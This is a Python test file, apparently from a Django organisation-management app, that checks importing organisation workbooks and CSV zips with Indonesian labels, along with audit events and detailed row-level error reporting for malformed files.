"""Importing and exporting an organisation as a workbook.

Given an organisation built through the services, when a workbook (or a zip of CSV
files) is imported, then exactly the stated rows and audit events exist; and for a
refused file, every problem is reported with its sheet, row and column, and nothing
at all was written.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import os
import threading
import zipfile
from decimal import Decimal
from typing import Any

import pytest
from django.core.management import CommandError, call_command
from django.db import connection, connections
from django.test import override_settings
from openpyxl import Workbook, load_workbook

from rantai.accounts.models import Organisation, User
from rantai.audit import services as audit
from rantai.audit.models import AuditEvent, AuditVerb
from rantai.org import services as org
from rantai.org.models import Duty, Holding, Party, PartyKind, Person, Position
from rantai.org.transfer import (
    ImportRejected,
    RowError,
    export_organisation,
    import_organisation,
    parse_bool,
    parse_date,
    parse_decimal,
    parse_int,
    parsing,
    template_csv_zip,
    template_xlsx,
)
from rantai.org.transfer.exporting import organisation_rows
from rantai.org.transfer.parsing import CellError
from rantai.testing import SmallOrg, make_user

JAN_1 = dt.date(2026, 1, 1)

# --- building files ------------------------------------------------------------------


def xlsx(sheets: dict[str, list[list[Any]]]) -> bytes:
    workbook = Workbook()
    workbook.remove(workbook.active)
    for title, rows in sheets.items():
        sheet = workbook.create_sheet(title)
        for values in rows:
            sheet.append(values)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def csv_zip(
    sheets: dict[str, list[list[Any]]],
    *,
    delimiter: str = ",",
    encoding: str = "utf-8-sig",
) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, rows in sheets.items():
            text = io.StringIO()
            writer = csv.writer(text, delimiter=delimiter)
            for values in rows:
                writer.writerow(["" if v is None else v for v in values])
            archive.writestr(f"organisasi/{name}.csv", text.getvalue().encode(encoding))
    return buffer.getvalue()


UNITS_HEADER = [
    "code",
    "name",
    "parent_code",
    "kind",
    "description",
    "head_position_code",
]
POSITIONS_HEADER = [
    "code", "title", "unit_code", "superior_code", "max_holders", "job_description",
]  # fmt: skip
DUTIES_HEADER = ["position_code", "duty", "output_unit", "description"]
PEOPLE_HEADER = ["employee_number", "full_name", "email", "party_code"]
HOLDERS_HEADER = [
    "position_code", "employee_number", "full_name", "start_date", "end_date", "acting",
]  # fmt: skip

SITI = "198703152010011001"
BAMBANG = "198501012009011002"


def good_sheets() -> dict[str, list[list[Any]]]:
    """A small, correct organisation: Indonesian labels, dates and numbers."""
    return {
        "units": [
            UNITS_HEADER,
            ["DIR", "Direksi", "", "unit internal", "Dewan direksi", "DIR-UT"],
            ["KEU", "Bagian Keuangan", "DIR", "", "", "KEU-KA"],
            ["FWD", "PT Ekspedisi Cepat", "", "mitra eksternal", "Forwarder", ""],
        ],
        "positions": [
            POSITIONS_HEADER,
            ["DIR-UT", "Direktur Utama", "DIR", "", 1, "Memimpin perusahaan"],
            ["KEU-KA", "Kepala Bagian Keuangan", "KEU", "DIR-UT", "1", ""],
            ["KEU-STAF", "Staf Keuangan", "KEU", "KEU-KA", "3,0", ""],
            ["FWD-OPS", "Operator Ekspedisi", "FWD", "", "", ""],
        ],
        "duties": [
            DUTIES_HEADER,
            ["KEU-KA", "Menyusun laporan keuangan bulanan", "laporan", ""],
            ["KEU-STAF", "Mencatat transaksi", "transaksi", "Setiap hari"],
        ],
        "people": [
            PEOPLE_HEADER,
            [SITI, "Siti Rahayu", "Siti.Rahayu@Contoh.co.id", ""],
            [BAMBANG, "Bambang Wijaya", "", ""],
            ["", "Agus Salim", "", "FWD"],
        ],
        "holders": [
            HOLDERS_HEADER,
            ["DIR-UT", BAMBANG, "", "02/01/2026", "", "tidak"],
            ["KEU-KA", SITI, "", dt.datetime(2026, 1, 2), "", "no"],
            ["KEU-STAF", SITI, "", "2026-01-05", "31/12/2026", "ya"],
            ["FWD-OPS", "", "Agus Salim", "1 Februari 2026", "", ""],
        ],
    }


def state(organisation: Organisation) -> dict[str, Any]:
    """Everything an import could write, to prove a refused import wrote nothing."""
    organisation.refresh_from_db()
    return {
        "parties": list(Party.objects.filter(organisation=organisation).values()),
        "positions": list(Position.objects.filter(organisation=organisation).values()),
        "duties": list(Duty.objects.filter(organisation=organisation).values()),
        "people": list(Person.objects.filter(organisation=organisation).values()),
        "holdings": list(Holding.objects.filter(organisation=organisation).values()),
        "events": AuditEvent.objects.filter(organisation=organisation).count(),
        "head": (organisation.audit_sequence, organisation.audit_head_hash),
    }


def rejected(
    organisation: Organisation, actor: User, data: bytes, file_name: str = "org.xlsx"
) -> ImportRejected:
    """Import a bad file; check that nothing was written; return the refusal."""
    before = state(organisation)
    with pytest.raises(ImportRejected) as refusal:
        import_organisation(organisation, actor=actor, file_name=file_name, data=data)
    assert state(organisation) == before
    return refusal.value


@pytest.fixture
def blank(db) -> tuple[Organisation, User]:  # type: ignore[no-untyped-def]
    admin = make_user("importer")
    organisation = org.create_organisation(
        "Nusantara Makmur", slug="nusantara", actor=admin
    )
    return organisation, admin


# --- a good file -----------------------------------------------------------------------


def assert_good_organisation(organisation: Organisation) -> None:
    parties = {p.code: p for p in Party.objects.filter(organisation=organisation)}
    positions = {p.code: p for p in Position.objects.filter(organisation=organisation)}
    assert sorted(parties) == ["DIR", "FWD", "KEU"]
    assert [
        (
            p.kind,
            p.name,
            p.parent and p.parent.code,
            p.description,
            p.head_position and p.head_position.code,
        )
        for p in (parties["DIR"], parties["KEU"], parties["FWD"])
    ] == [
        (PartyKind.INTERNAL_UNIT, "Direksi", None, "Dewan direksi", "DIR-UT"),
        (PartyKind.INTERNAL_UNIT, "Bagian Keuangan", "DIR", "", "KEU-KA"),
        (PartyKind.EXTERNAL_PARTNER, "PT Ekspedisi Cepat", None, "Forwarder", None),
    ]
    assert sorted(
        (
            p.code,
            p.title,
            p.party.code,
            p.superior and p.superior.code,
            p.max_holders,
            p.job_summary,
        )
        for p in positions.values()
    ) == [
        ("DIR-UT", "Direktur Utama", "DIR", None, 1, "Memimpin perusahaan"),
        ("FWD-OPS", "Operator Ekspedisi", "FWD", None, 1, ""),
        ("KEU-KA", "Kepala Bagian Keuangan", "KEU", "DIR-UT", 1, ""),
        ("KEU-STAF", "Staf Keuangan", "KEU", "KEU-KA", 3, ""),
    ]
    assert sorted(
        (d.position.code, d.title, d.output_unit, d.description, d.sort_order)
        for d in Duty.objects.filter(organisation=organisation)
    ) == [
        ("KEU-KA", "Menyusun laporan keuangan bulanan", "laporan", "", 10),
        ("KEU-STAF", "Mencatat transaksi", "transaksi", "Setiap hari", 10),
    ]
    assert sorted(
        (p.employee_number, p.full_name, p.email, p.party and p.party.code)
        for p in Person.objects.filter(organisation=organisation)
    ) == [
        ("", "Agus Salim", "", "FWD"),
        (BAMBANG, "Bambang Wijaya", "", None),
        (SITI, "Siti Rahayu", "siti.rahayu@contoh.co.id", None),
    ]
    assert sorted(
        (h.position.code, h.person.full_name, h.start_date, h.end_date, h.is_acting)
        for h in Holding.objects.filter(organisation=organisation)
    ) == [
        ("DIR-UT", "Bambang Wijaya", dt.date(2026, 1, 2), None, False),
        ("FWD-OPS", "Agus Salim", dt.date(2026, 2, 1), None, False),
        ("KEU-KA", "Siti Rahayu", dt.date(2026, 1, 2), None, False),
        ("KEU-STAF", "Siti Rahayu", dt.date(2026, 1, 5), dt.date(2026, 12, 31), True),
    ]


def test_a_good_workbook_creates_exactly_its_rows_each_with_an_audit_event(
    blank, audit_trail
):
    organisation, admin = blank
    trail = audit_trail(organisation)

    result = import_organisation(
        organisation, actor=admin, file_name="organisasi.xlsx", data=xlsx(good_sheets())
    )

    assert (result.created, result.updated, result.warnings) == (
        {"units": 3, "positions": 4, "duties": 2, "people": 3, "holders": 4},
        {"units": 0, "positions": 0, "duties": 0, "people": 0, "holders": 0},
        [],
    )
    assert_good_organisation(organisation)
    events = trail.new_events()
    assert [(e.verb, e.target_type) for e in events] == [
        *[(AuditVerb.CREATED, "org.party")] * 3,
        *[(AuditVerb.CREATED, "org.position")] * 4,
        *[(AuditVerb.CREATED, "org.duty")] * 2,
        *[(AuditVerb.CREATED, "org.person")] * 3,
        *[(AuditVerb.CREATED, "org.holding")] * 4,
        (AuditVerb.IMPORTED, "accounts.organisation"),
    ]
    assert {e.actor_id for e in events} == {admin.pk}
    keu = Party.objects.get(organisation=organisation, code="KEU")
    keu_event = next(e for e in events if e.target_id == str(keu.pk))
    assert keu_event.changes == {
        "kind": "internal_unit",
        "name": "Bagian Keuangan",
        "code": "KEU",
        "parent": keu.parent_id,
        "description": "",
        "head_position": keu.head_position_id,
    }
    siti = Person.objects.get(organisation=organisation, employee_number=SITI)
    siti_event = next(
        e
        for e in events
        if e.target_type == "org.person" and e.target_id == str(siti.pk)
    )
    # personal data stays out of the hashed part of the event
    assert siti_event.changes == {"party": None, "user": None}
    assert siti_event.personal.changes == {
        "full_name": "Siti Rahayu",
        "email": "siti.rahayu@contoh.co.id",
        "employee_number": SITI,
    }
    summary = events[-1]
    assert summary.changes == {
        "sheets": {
            "units": {"created": 3, "updated": 0},
            "positions": {"created": 4, "updated": 0},
            "duties": {"created": 2, "updated": 0},
            "people": {"created": 3, "updated": 0},
            "holders": {"created": 4, "updated": 0},
        }
    }
    assert summary.personal.changes == {"file_name": "organisasi.xlsx"}
    assert audit.verify(organisation).ok


def test_a_zip_of_csv_files_with_indonesian_headers_and_semicolons_imports_the_same(
    blank, audit_trail
):
    organisation, admin = blank
    trail = audit_trail(organisation)
    sheets = good_sheets()
    sheets["holders"][2][3] = "02/01/2026"  # CSV has no date cells
    indonesian = {
        "unit": [
            ["Kode", "Nama", "Induk", "Jenis", "Keterangan", "Jabatan Kepala"],
            *sheets["units"][1:],
        ],
        "jabatan": [
            [
                "kode",
                "nama jabatan",
                "unit",
                "atasan",
                "jumlah pemangku",
                "uraian jabatan",
            ],
            *sheets["positions"][1:],
        ],
        "tugas": [
            ["jabatan", "tugas", "satuan hasil", "keterangan"],
            *sheets["duties"][1:],
        ],
        "pegawai": [["NIP", "Nama Lengkap", "E-mail", "mitra"], *sheets["people"][1:]],
        "pemangku": [
            [
                "jabatan",
                "nip",
                "nama",
                "Tanggal Mulai (dd/mm/yyyy)",
                "tanggal selesai",
                "Plt",
            ],
            *sheets["holders"][1:],
        ],
    }

    result = import_organisation(
        organisation,
        actor=admin,
        file_name="organisasi.zip",
        data=csv_zip(indonesian, delimiter=";", encoding="cp1252"),
    )

    assert result.created == {
        "units": 3,
        "positions": 4,
        "duties": 2,
        "people": 3,
        "holders": 4,
    }
    assert_good_organisation(organisation)
    assert len(trail.new_events()) == 17
    assert audit.verify(organisation).ok


def test_importing_the_same_file_again_writes_nothing(blank, audit_trail):
    organisation, admin = blank
    data = xlsx(good_sheets())
    import_organisation(organisation, actor=admin, file_name="a.xlsx", data=data)
    before = state(organisation)
    trail = audit_trail(organisation)

    result = import_organisation(
        organisation, actor=admin, file_name="a.xlsx", data=data
    )

    assert (result.total_created, result.total_updated, result.changed) == (0, 0, False)
    assert {c.sheet: c.unchanged for c in result.sheets} == {
        "units": 3, "positions": 4, "duties": 2, "people": 3, "holders": 4,
    }  # fmt: skip
    assert state(organisation) == before
    trail.assert_nothing_new()


def test_existing_rows_found_by_code_are_updated_and_audited_like_the_services(
    acme: SmallOrg, audit_trail
):
    organisation = acme.organisation
    trail = audit_trail(organisation)
    data = xlsx(
        {
            "units": [
                ["code", "name", "parent_code"],
                ["WH", "Gudang", "EXP"],  # renamed and moved
                ["EXP", "Export", "HO"],  # unchanged
            ],
            "people": [
                ["full_name", "email"],
                ["Budi Santoso", "budi@acme.test"],  # found by name
            ],
            "holders": [
                ["position_code", "full_name", "start_date", "end_date"],
                ["EXP-CLERK", "Budi Santoso", "01/01/2026", "30/06/2026"],
            ],
        }
    )

    result = import_organisation(
        organisation, actor=acme.admin, file_name="x.xlsx", data=data
    )

    assert {c.sheet: (c.created, c.updated, c.unchanged) for c in result.sheets} == {
        "units": (0, 1, 1), "people": (0, 1, 0), "holders": (0, 1, 0),
    }  # fmt: skip
    warehouse = Party.objects.get(pk=acme.warehouse.pk)
    assert (warehouse.name, warehouse.parent_id, warehouse.version) == (
        "Gudang",
        acme.export.pk,
        2,
    )
    budi = Person.objects.get(pk=acme.budi.pk)
    assert (budi.email, budi.full_name, budi.employee_number) == (
        "budi@acme.test",
        "Budi Santoso",
        "",
    )
    holding = Holding.objects.get(person=budi)
    assert holding.end_date == dt.date(2026, 6, 30)
    events = trail.new_events()
    assert [(e.verb, e.target_type, e.changes) for e in events[:-1]] == [
        (
            AuditVerb.MOVED,
            "org.party",
            {"parent": [acme.head_office.pk, acme.export.pk]},
        ),
        (AuditVerb.UPDATED, "org.party", {"name": ["Warehouse", "Gudang"]}),
        (AuditVerb.UPDATED, "org.person", {}),
        (AuditVerb.UPDATED, "org.holding", {"end_date": [None, "2026-06-30"]}),
    ]
    assert events[2].personal.changes == {"email": ["", "budi@acme.test"]}
    assert events[-1].verb == AuditVerb.IMPORTED
    assert audit.verify(organisation).ok


def test_existing_rows_can_point_at_rows_the_same_file_creates(
    acme: SmallOrg, audit_trail
):
    trail = audit_trail(acme.organisation)
    data = xlsx(
        {
            "units": [
                ["code", "name", "parent_code", "head_position_code"],
                ["OPS", "Operations", "HO", "OPS-VP"],
                ["EXP", "Export", "OPS", "EXP-HEAD"],
            ],
            "positions": [
                ["code", "title", "unit_code", "superior_code"],
                ["OPS-VP", "Vice president", "OPS", "DIR"],
                ["EXP-HEAD", "Head of export", "EXP", "OPS-VP"],
            ],
        }
    )

    import_organisation(
        acme.organisation, actor=acme.admin, file_name="x.xlsx", data=data
    )

    ops = Party.objects.get(organisation=acme.organisation, code="OPS")
    vp = Position.objects.get(organisation=acme.organisation, code="OPS-VP")
    export = Party.objects.get(pk=acme.export.pk)
    head = Position.objects.get(pk=acme.export_head.pk)
    assert (ops.parent_id, ops.head_position_id, vp.party_id, vp.superior_id) == (
        acme.head_office.pk, vp.pk, ops.pk, acme.director.pk,
    )  # fmt: skip
    assert (export.parent_id, export.head_position_id, head.superior_id) == (
        ops.pk, head.pk, vp.pk,
    )  # fmt: skip
    assert [(e.verb, e.target_type, e.target_id, e.changes) for e in trail.new_events()[2:-1]] == [
        (AuditVerb.MOVED, "org.party", str(export.pk), {"parent": [acme.head_office.pk, ops.pk]}),
        (AuditVerb.UPDATED, "org.party", str(export.pk), {"head_position": [None, head.pk]}),
        (AuditVerb.MOVED, "org.position", str(head.pk), {"superior": [acme.director.pk, vp.pk]}),
    ]  # fmt: skip
    assert audit.verify(acme.organisation).ok


def test_a_dry_run_counts_the_changes_and_writes_nothing(blank):
    organisation, admin = blank
    before = state(organisation)

    result = import_organisation(
        organisation,
        actor=admin,
        file_name="a.xlsx",
        data=xlsx(good_sheets()),
        dry_run=True,
    )

    assert (result.dry_run, result.total_created) == (True, 16)
    assert state(organisation) == before


def test_a_person_without_a_number_gets_one_when_the_file_gives_it(acme: SmallOrg):
    data = xlsx({"people": [["nip", "nama"], ["19800101", "Budi Santoso"]]})

    result = import_organisation(
        acme.organisation, actor=acme.admin, file_name="p.xlsx", data=data
    )

    assert (result.created, result.updated) == ({"people": 0}, {"people": 1})
    assert Person.objects.get(pk=acme.budi.pk).employee_number == "19800101"


# --- bad files: wrong columns ------------------------------------------------------------


def test_missing_required_columns_are_reported_per_sheet_and_unknown_ones_ignored(
    blank,
):
    organisation, admin = blank
    data = xlsx(
        {
            "units": [["code", "label", "parent_code"], ["A", "Alpha", ""]],
            "positions": [["kode", "nama", "unit", "kode"], ["P", "Pos", "A", "X"]],
            "holders": [["position_code", "start_date"], ["P", "01/01/2026"]],
        }
    )

    refusal = rejected(organisation, admin, data)

    assert refusal.row_errors == [
        RowError("units", None, "name", "This required column is missing."),
        RowError(
            "positions",
            None,
            "kode",
            "The column code appears twice (as “kode” and “kode”).",
        ),
        RowError(
            "holders",
            None,
            "employee_number",
            "The sheet needs an employee_number or a full_name column to say who holds "
            "each position.",
        ),
    ]
    assert refusal.warnings == [
        RowError(
            "units", None, "label", "Rantai does not know this column; it was ignored."
        )
    ]
    assert refusal.message == (
        "The file was not imported: 3 problems were found. Nothing was written."
    )
    assert (
        str(refusal.row_errors[0])
        == "units, column name: This required column is missing."
    )


def test_a_workbook_without_known_sheets_or_rows_is_refused(blank):
    organisation, admin = blank

    no_sheets = rejected(organisation, admin, xlsx({"Sheet1": [["a", "b"], [1, 2]]}))
    no_rows = rejected(organisation, admin, xlsx({"units": [UNITS_HEADER]}))

    assert no_sheets.row_errors == [
        RowError(
            "",
            None,
            "",
            "The file has none of the sheets Rantai reads: units, positions, duties, "
            "people, holders.",
        )
    ]
    assert no_sheets.warnings == [
        RowError(
            "Sheet1",
            None,
            "",
            "Rantai does not know this sheet; it was ignored. The sheets are: units, "
            "positions, duties, people, holders.",
        )
    ]
    assert no_rows.row_errors == [
        RowError("", None, "", "The file has no rows to import.")
    ]


# --- bad files: cells -----------------------------------------------------------------------


def test_bad_dates_and_values_are_reported_with_row_and_column(blank):
    organisation, admin = blank
    sheets = good_sheets()
    sheets["holders"] = [
        HOLDERS_HEADER,
        ["DIR-UT", BAMBANG, "", "31/02/2026", "", "tidak"],
        ["KEU-KA", SITI, "", "02/01/2026", "next week", "no"],
        ["KEU-STAF", SITI, "", "05/01/2026", "04/01/2026", "mungkin"],
        ["FWD-OPS", "", "Agus Salim", "", "", ""],
    ]
    sheets["positions"][3][4] = "1,5"
    sheets["people"][1][2] = "siti@"

    refusal = rejected(organisation, admin, xlsx(sheets))

    assert refusal.row_errors == [
        RowError("positions", 4, "max_holders", "“1,5” is not a whole number."),
        RowError("people", 2, "email", "Enter a valid email address."),
        RowError(
            "holders", 2, "start_date",
            "“31/02/2026” is not a date. Write dates as dd/mm/yyyy, for example 17/08/2026.",
        ),
        RowError(
            "holders", 3, "end_date",
            "“next week” is not a date. Write dates as dd/mm/yyyy, for example 17/08/2026.",
        ),
        RowError(
            "holders", 4, "acting",
            "“mungkin” is neither yes nor no. Write yes (ya) or no (tidak).",
        ),
        RowError("holders", 4, "end_date", "The end date must not be before the start date."),
        RowError("holders", 5, "start_date", "A date is required."),
    ]  # fmt: skip


def test_employee_numbers_rounded_by_excel_are_refused(blank):
    organisation, admin = blank
    data = xlsx(
        {
            "people": [
                ["employee_number", "full_name"],
                [198703152010011001, "Siti Rahayu"],  # stored by Excel as a float
                ["1.98703E+17", "Bambang Wijaya"],  # as Excel writes it to CSV
                [19870315, "Agus Salim"],  # short numbers are fine
            ]
        }
    )

    refusal = rejected(organisation, admin, data)

    assert refusal.row_errors == [
        RowError(
            "people", row, "employee_number",
            f"The spreadsheet has turned this long number into {shown} and lost its last "
            "digits. Format the column as Text and type the number again.",
        )
        for row, shown in ((2, "1.98703152010011E+17"), (3, "1.98703E+17"))
    ]  # fmt: skip


def test_required_cells_and_lengths_follow_the_model_rules(blank):
    organisation, admin = blank
    data = xlsx(
        {
            "units": [
                UNITS_HEADER,
                ["", "Tanpa kode", "", "", "", ""],
                ["X" * 31, "Terlalu panjang", "", "planet", "", ""],
            ]
        }
    )

    refusal = rejected(organisation, admin, data)

    assert refusal.row_errors == [
        RowError("units", 2, "code", "This cell is required."),
        RowError(
            "units", 3, "kind",
            "“planet” is not a kind of party. Write internal_unit (unit internal) or "
            "external_partner (mitra eksternal).",
        ),
        RowError(
            "units", 3, "code",
            "Ensure this value has at most 30 characters (it has 31).",
        ),
    ]  # fmt: skip


# --- bad files: structure ---------------------------------------------------------------------


def test_cycles_report_every_row_in_the_cycle(blank):
    organisation, admin = blank
    data = xlsx(
        {
            "units": [
                ["code", "name", "parent_code"],
                ["A", "Alpha", "C"],
                ["B", "Beta", "A"],
                ["C", "Gamma", "B"],
                ["D", "Delta", "A"],
                ["S", "Self", "S"],
            ],
            "positions": [
                ["code", "title", "unit_code", "superior_code"],
                ["P1", "One", "D", "P2"],
                ["P2", "Two", "D", "P1"],
            ],
        }
    )

    refusal = rejected(organisation, admin, data)

    def unit_cycle(text: str) -> str:
        return (
            f"These units form a cycle: {text}. A unit cannot sit under itself or one of "
            "its own sub-units."
        )

    def position_cycle(text: str) -> str:
        return (
            f"These positions form a cycle in the superior line: {text}. A position cannot "
            "be its own superior."
        )

    assert refusal.row_errors == [
        RowError("units", 2, "parent_code", unit_cycle("A → C → B → A")),
        RowError("units", 3, "parent_code", unit_cycle("B → A → C → B")),
        RowError("units", 4, "parent_code", unit_cycle("C → B → A → C")),
        RowError("units", 6, "parent_code", unit_cycle("S → S")),
        RowError("positions", 2, "superior_code", position_cycle("P1 → P2 → P1")),
        RowError("positions", 3, "superior_code", position_cycle("P2 → P1 → P2")),
    ]  # fmt: skip


def test_a_cycle_through_units_already_in_rantai_is_refused(acme: SmallOrg):
    # EXP sits under HO in Rantai; putting HO under EXP closes a loop.
    data = xlsx(
        {"units": [["code", "name", "parent_code"], ["HO", "Head office", "EXP"]]}
    )

    refusal = rejected(acme.organisation, acme.admin, data)

    assert refusal.row_errors == [
        RowError(
            "units", 2, "parent_code",
            "These units form a cycle: HO → EXP → HO. A unit cannot sit under itself or one "
            "of its own sub-units.",
        )
    ]  # fmt: skip


def test_duplicates_within_the_file_are_refused(blank):
    organisation, admin = blank
    sheets = good_sheets()
    sheets["units"].append(["KEU", "Keuangan lagi", "DIR", "", "", ""])
    sheets["duties"].append(
        ["KEU-KA", "Menyusun laporan keuangan bulanan", "laporan", ""]
    )
    sheets["people"].append([SITI, "Siti R.", "", ""])
    sheets["people"].append(["", "Agus  salim", "", ""])
    sheets["holders"].append(["KEU-KA", SITI, "", "02/01/2026", "", ""])

    refusal = rejected(organisation, admin, xlsx(sheets))

    assert refusal.row_errors == [
        RowError("units", 5, "code", "The code “KEU” appears already in row 3."),
        RowError(
            "duties", 4, "duty",
            "The position KEU-KA has this duty already in row 2.",
        ),
        RowError(
            "people", 5, "employee_number",
            f"The employee number “{SITI}” appears already in row 2.",
        ),
        RowError(
            "people", 6, "full_name",
            "“Agus  salim” appears already in row 4; give each person an employee number "
            "to tell them apart.",
        ),
        RowError(
            "holders", 6, "start_date",
            "The same holding (position, person and start date) appears already in row 3.",
        ),
    ]  # fmt: skip


def test_unknown_codes_are_refused_with_a_hint_for_the_wrong_case(acme: SmallOrg):
    data = xlsx(
        {
            "units": [["code", "name", "parent_code"], ["NEW", "New unit", "exp"]],
            "positions": [
                ["code", "title", "unit_code", "superior_code"],
                ["NEW-1", "Officer", "NOPE", "DIR"],
            ],
            "holders": [
                ["position_code", "employee_number", "full_name", "start_date"],
                ["GHOST", "", "Rina Kusuma", "01/03/2026"],
                ["DIR", "999", "", "01/03/2026"],
                ["DIR", "", "Nobody", "01/03/2026"],
            ],
        }
    )

    refusal = rejected(acme.organisation, acme.admin, data)

    assert refusal.row_errors == [
        RowError(
            "units", 2, "parent_code",
            "No unit has the code “exp” in this file or in Rantai. Codes are case-sensitive: "
            "did you mean “EXP”?",
        ),
        RowError(
            "positions", 2, "unit_code",
            "No unit or partner has the code “NOPE” in this file or in Rantai.",
        ),
        RowError("holders", 2, "position_code", "No position has the code “GHOST” in this file or in Rantai."),
        RowError(
            "holders", 3, "employee_number",
            "No person has the employee number “999” in the people sheet or in Rantai.",
        ),
        RowError("holders", 4, "full_name", "No person is called “Nobody” in the people sheet or in Rantai."),
    ]  # fmt: skip


def test_unknown_codes_on_existing_rows_are_reported_too(acme: SmallOrg):
    data = xlsx(
        {
            "positions": [["code", "title", "unit_code"], ["DIR", "Director", "GONE"]],
            "people": [["full_name", "party_code"], ["Joko Susilo", "GONE"]],
        }
    )

    refusal = rejected(acme.organisation, acme.admin, data)

    assert refusal.row_errors == [
        RowError(
            "positions", 2, "unit_code",
            "No unit or partner has the code “GONE” in this file or in Rantai.",
        ),
        RowError(
            "people", 2, "party_code",
            "No unit or partner has the code “GONE” in this file or in Rantai.",
        ),
    ]  # fmt: skip


def test_a_single_holder_position_refuses_a_second_definitive_holder(acme: SmallOrg):
    data = xlsx(
        {
            "people": [["employee_number", "full_name"], ["77", "Dewi Lestari"]],
            "holders": [
                [
                    "position_code",
                    "employee_number",
                    "full_name",
                    "start_date",
                    "end_date",
                    "acting",
                ],
                # Rina holds EXP-HEAD since 1 January 2026 (in Rantai)
                ["EXP-HEAD", "", "Budi Santoso", "01/03/2026", "", "no"],
                [
                    "EXP-HEAD",
                    "",
                    "Budi Santoso",
                    "01/03/2026",
                    "",
                    "ya",
                ],  # duplicate key
                ["DIR", "77", "", "01/01/2026", "31/12/2026", ""],
                ["DIR", "", "Budi Santoso", "01/06/2026", "", ""],
                ["DIR", "", "Rina Kusuma", "01/01/2027", "", ""],  # after Dewi: fine
                [
                    "EXP-HEAD",
                    "",
                    "Rina Kusuma",
                    "01/01/2027",
                    "",
                    "ya",
                ],  # already holds
            ],
        }
    )

    refusal = rejected(acme.organisation, acme.admin, data)

    assert refusal.row_errors == [
        RowError(
            "holders", 2, "position_code",
            "The position EXP-HEAD allows one holder and already has Rina Kusuma in that "
            "period (already in Rantai). End that holding first, or mark this one as "
            "acting (Plt).",
        ),
        RowError(
            "holders", 3, "start_date",
            "The same holding (position, person and start date) appears already in row 2.",
        ),
        RowError(
            "holders", 5, "position_code",
            "The position DIR allows one holder and already has Dewi Lestari in that "
            "period (row 4). End that holding first, or mark this one as acting (Plt).",
        ),
        RowError(
            "holders", 7, "employee_number",
            "This person already holds the position in that period (already in Rantai).",
        ),
    ]  # fmt: skip


def test_a_position_cannot_allow_fewer_holders_than_it_has_today(acme: SmallOrg):
    dewi = org.create_person(acme.organisation, actor=acme.admin, full_name="Dewi")
    org.assign_holder(
        acme.export_staff, actor=acme.admin, person=dewi, start_date=JAN_1
    )
    data = xlsx(
        {
            "positions": [
                ["code", "title", "unit_code", "max_holders"],
                ["EXP-CLERK", "Export clerk", "EXP", "1"],
            ]
        }
    )

    refusal = rejected(acme.organisation, acme.admin, data)

    assert refusal.row_errors == [
        RowError(
            "positions", 2, "max_holders",
            "The position has 2 current holders; end some holdings first.",
        )
    ]  # fmt: skip


def test_the_kind_of_an_existing_party_cannot_change(acme: SmallOrg):
    data = xlsx(
        {"units": [["code", "name", "kind"], ["FWD", "Fast Forwarding", "internal"]]}
    )

    refusal = rejected(acme.organisation, acme.admin, data)

    assert refusal.row_errors == [
        RowError(
            "units", 2, "kind",
            "FWD is already an external partner in Rantai; the kind of a party cannot be "
            "changed.",
        )
    ]  # fmt: skip


def test_partners_do_not_nest_and_heads_belong_to_their_unit(acme: SmallOrg):
    data = xlsx(
        {
            "units": [
                UNITS_HEADER,
                ["SUB", "Sub", "FWD", "internal_unit", "", ""],
                ["P2", "Partner two", "HO", "external_partner", "", ""],
                ["EXP", "Export", "HO", "", "", "DIR"],
            ]
        }
    )

    refusal = rejected(acme.organisation, acme.admin, data)

    assert refusal.row_errors == [
        RowError("units", 2, "parent_code", "The parent must be an internal unit."),
        RowError("units", 3, "parent_code", "Only internal units can sit under a parent unit."),
        RowError(
            "units", 4, "head_position_code",
            "The head position must belong to this unit (DIR belongs to HO).",
        ),
    ]  # fmt: skip


def test_a_head_position_cannot_move_out_of_the_unit_it_heads(acme: SmallOrg):
    org.update_party(
        acme.head_office,
        actor=acme.admin,
        expected_version=None,
        head_position=acme.director,
    )
    data = xlsx(
        {"positions": [["code", "title", "unit_code"], ["DIR", "Director", "EXP"]]}
    )

    refusal = rejected(acme.organisation, acme.admin, data)

    assert refusal.row_errors == [
        RowError(
            "positions", 2, "unit_code",
            "It heads the unit HO; choose another head position there first.",
        )
    ]  # fmt: skip


def test_deactivated_people_and_positions_take_no_new_holders(acme: SmallOrg):
    org.update_holding(
        Holding.objects.get(person=acme.budi),
        actor=acme.admin,
        expected_version=None,
        end_date=dt.date(2026, 1, 31),
    )
    org.deactivate_person(acme.budi, actor=acme.admin, expected_version=None)
    data = xlsx(
        {
            "holders": [
                ["position_code", "full_name", "start_date", "acting"],
                ["EXP-CLERK", "Budi Santoso", "01/03/2026", "no"],
            ]
        }
    )

    refusal = rejected(acme.organisation, acme.admin, data)

    assert refusal.row_errors == [
        RowError("holders", 2, "full_name", "The person is deactivated.")
    ]


def test_every_problem_of_a_file_is_reported_at_once(blank):
    organisation, admin = blank
    sheets = good_sheets()
    sheets["units"][2][2] = "NONE"
    sheets["positions"][2][1] = ""
    sheets["holders"][1][3] = "2026/01/02"

    refusal = rejected(organisation, admin, xlsx(sheets))

    assert [(e.sheet, e.row, e.column) for e in refusal.row_errors] == [
        ("units", 3, "parent_code"),
        ("positions", 3, "title"),
        ("holders", 2, "start_date"),
    ]


# --- bad files: not a workbook at all ----------------------------------------------------------


def test_a_10_mb_junk_file_is_refused_before_it_is_read(blank):
    organisation, admin = blank
    junk = os.urandom(10 * 1024 * 1024)
    message = "The file is too large (10.0 MB); the limit is 8.0 MB."

    as_binary = rejected(organisation, admin, junk, file_name="junk.bin")
    as_xlsx = rejected(organisation, admin, junk, file_name="organisasi.xlsx")

    assert as_binary.row_errors == [RowError("", None, "", message)]
    assert as_xlsx.row_errors == [RowError("", None, "", message)]


@override_settings(RANTAI_IMPORT_MAX_BYTES=20 * 1024 * 1024)
def test_a_10_mb_junk_file_under_a_higher_limit_is_not_a_workbook(blank):
    organisation, admin = blank

    refusal = rejected(
        organisation,
        admin,
        b"PK\x03\x04" + os.urandom(10 * 1024 * 1024),
        "organisasi.xlsx",
    )

    assert refusal.row_errors == [
        RowError(
            "",
            None,
            "",
            "“organisasi.xlsx” is not an Excel workbook (.xlsx) or a zip of CSV files. "
            "Download the template from this page, fill it in and upload it.",
        )
    ]


def test_files_that_are_not_workbooks_get_a_clear_message(blank):
    organisation, admin = blank
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("notes.txt", "hello")
    damaged = io.BytesIO()
